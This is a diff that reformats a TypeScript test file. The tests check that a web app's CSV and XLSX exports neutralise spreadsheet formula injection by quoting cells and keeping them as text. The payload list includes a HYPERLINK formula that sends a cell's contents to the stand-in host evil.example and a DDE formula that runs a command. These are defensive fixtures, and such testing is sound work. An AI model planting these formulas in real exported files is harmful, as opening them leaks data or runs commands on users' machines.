@@ -18,7 +18,16 @@ beforeAll(async () => {
 });
 afterAll(() => ctx.close());
 
-const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", '+1+1', '@SUM(1,1)', '-2+3', '\t=1+1', '\r=1+1', '＝1+1'];
+const PAYLOADS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '@SUM(1,1)',
+  '-2+3',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+];
 /** Export path → the table and text column whose first row gets a payload. */
 const TARGETS: Record<string, { table: string; column: string }> = {
   '/api/terms/export': { table: 'terms', column: 'name' },
@@ -64,29 +73,35 @@ describe('exports neutralise formulas', () => {
     expect(new Set(exports)).toEqual(new Set(Object.keys(TARGETS)));
   });
 
-  it.each(Object.keys(TARGETS).map((path, i) => [path, i] as const))('CSV %s: the payload comes out quoted, no cell starts a formula', async (path, i) => {
-    const res = await admin.get(path, { query: { format: 'csv' } });
-    expect(res.statusCode).toBe(200);
-    const cells = (parse(res.rawPayload, { bom: true, relax_column_count: true }) as string[][]).flat();
-    expect(cells).toContain(`'${payloadOf(i)}`);
-    expect(cells.filter((c) => DANGEROUS.test(c) && !PLAIN_NUMBER.test(c))).toEqual([]);
-  });
+  it.each(Object.keys(TARGETS).map((path, i) => [path, i] as const))(
+    'CSV %s: the payload comes out quoted, no cell starts a formula',
+    async (path, i) => {
+      const res = await admin.get(path, { query: { format: 'csv' } });
+      expect(res.statusCode).toBe(200);
+      const cells = (parse(res.rawPayload, { bom: true, relax_column_count: true }) as string[][]).flat();
+      expect(cells).toContain(`'${payloadOf(i)}`);
+      expect(cells.filter((c) => DANGEROUS.test(c) && !PLAIN_NUMBER.test(c))).toEqual([]);
+    },
+  );
 
-  it.each(Object.keys(TARGETS).map((path, i) => [path, i] as const))('XLSX %s: the payload is a text cell, the sheet holds no formula', async (path, i) => {
-    const res = await admin.get(path, { query: { format: 'xlsx' } });
-    expect(res.statusCode).toBe(200);
-    const zip = await JSZip.loadAsync(res.rawPayload);
-    const sheetXml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
-    expect(sheetXml).not.toMatch(/<f[ >]/);
-    const wb = new ExcelJS.Workbook();
-    await wb.xlsx.load(new Uint8Array(res.rawPayload).buffer);
-    const found: ExcelJS.Cell[] = [];
-    // XML reads a stored \r back as \n; what matters is that the cell is text.
-    const payload = payloadOf(i).replace(/\r/g, '\n');
-    wb.worksheets[0].eachRow((row) => row.eachCell((cell) => void (cell.value === payload && found.push(cell))));
-    expect(found.length).toBeGreaterThan(0);
-    for (const cell of found) expect(cell.type).toBe(ExcelJS.ValueType.String);
-  });
+  it.each(Object.keys(TARGETS).map((path, i) => [path, i] as const))(
+    'XLSX %s: the payload is a text cell, the sheet holds no formula',
+    async (path, i) => {
+      const res = await admin.get(path, { query: { format: 'xlsx' } });
+      expect(res.statusCode).toBe(200);
+      const zip = await JSZip.loadAsync(res.rawPayload);
+      const sheetXml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
+      expect(sheetXml).not.toMatch(/<f[ >]/);
+      const wb = new ExcelJS.Workbook();
+      await wb.xlsx.load(new Uint8Array(res.rawPayload).buffer);
+      const found: ExcelJS.Cell[] = [];
+      // XML reads a stored \r back as \n; what matters is that the cell is text.
+      const payload = payloadOf(i).replace(/\r/g, '\n');
+      wb.worksheets[0].eachRow((row) => row.eachCell((cell) => void (cell.value === payload && found.push(cell))));
+      expect(found.length).toBeGreaterThan(0);
+      for (const cell of found) expect(cell.type).toBe(ExcelJS.ValueType.String);
+    },
+  );
 
   it('leaves numbers alone, negative ones included, and quotes text that merely looks like a sum', () => {
     expect(neutralizeCsvCell(-3)).toBe(-3);
